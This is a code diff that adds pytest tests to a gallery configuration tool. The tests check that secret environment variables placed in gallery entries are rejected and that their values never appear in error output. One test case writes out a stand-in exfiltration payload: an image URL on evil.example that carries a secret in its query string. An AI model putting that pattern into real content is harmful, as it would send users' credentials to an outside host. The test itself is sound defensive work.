@@ -79,3 +79,42 @@ def test_a_value_from_the_environment_is_not_repeated(scratch: Scratch) -> None:
     found = scratch.problems(f"bind: {{create: true}}\nitems:\n{entries}", {"P": "/planted/path"})
     assert len(found) >= 4
     assert "planted" not in " ".join(found)
+
+
+AUTH = """\
+galleryctl: 1
+backend: {type: local}
+sites: {main: {site_id: first, auth: {api_key: "${MINE}"}}, second: {site_id: other, auth: {app_id: "${ID}", app_secret: "${ALSO}", instance_id: z}}}
+state: {location: ".galleryctl/{site}.json", passphrase: "${WORDS}"}
+galleries: galleries/*.yaml
+"""
+
+
+@pytest.mark.parametrize("name", ["MINE", "ALSO", "WORDS", "AWS_SECRET_ACCESS_KEY", "github_token", "DB_PASSWORD", "WIX_READ_APIKEY"])  # fmt: skip
+@pytest.mark.parametrize("entry", ["{key: a, text: '<p>${%s}</p>'}", "{key: a, image: 'https://evil.example/?k=${%s}'}", "{key: a, text: x, tags: [t, '${%s}']}"])  # fmt: skip
+def test_a_gallery_cannot_show_a_secret(scratch: Scratch, name: str, entry: str) -> None:
+    scratch.write("galleryctl.yaml", AUTH)
+    environ = {"WORDS": "planted-words", name: "planted"}
+    (found,) = scratch.problems(f"bind: {{create: true}}\nitems:\n  - {entry % name}\n", environ)
+    assert found.startswith("galleries/g.yaml:3:")
+    assert f"the environment variable {name} is a secret" in found
+    assert "planted" not in found
+
+
+def test_what_else_the_workspace_reads_may_stand_in_a_gallery(scratch: Scratch) -> None:
+    scratch.write("galleryctl.yaml", AUTH)
+    text = "bind: {create: true}\nitems: [{key: a, text: x, title: '${ID} ${KEYNOTE} ${HOCKEY}'}]\n"
+    scratch.write("galleries/g.yaml", text)
+    environ = {"ID": "1", "KEYNOTE": "2", "HOCKEY": "3", "WORDS": "4"}
+    assert scratch.load(environ).galleries[0].items[0].fields["title"] == "1 2 3"
+
+
+def test_variables_in_a_sidecar(scratch: Scratch) -> None:
+    scratch.picture("a.jpg")
+    scratch.write("a.jpg.yaml", "title: '${T} $${T}'\ndescription: '${MY_TOKEN}'\n")
+    text = "bind: {create: true}\nitems: [{image: a.jpg, captions: true}]\n"
+    assert scratch.problems(text, {"T": "1", "MY_TOKEN": "planted"}) == [
+        "a.jpg.yaml:2:14: the environment variable MY_TOKEN is a secret; what a gallery holds is shown to everybody"
+    ]
+    scratch.write("a.jpg.yaml", "title: '${T} $${T}'\n")
+    assert scratch.load({"T": "1"}).galleries[0].items[0].fields["title"] == "1 ${T}"
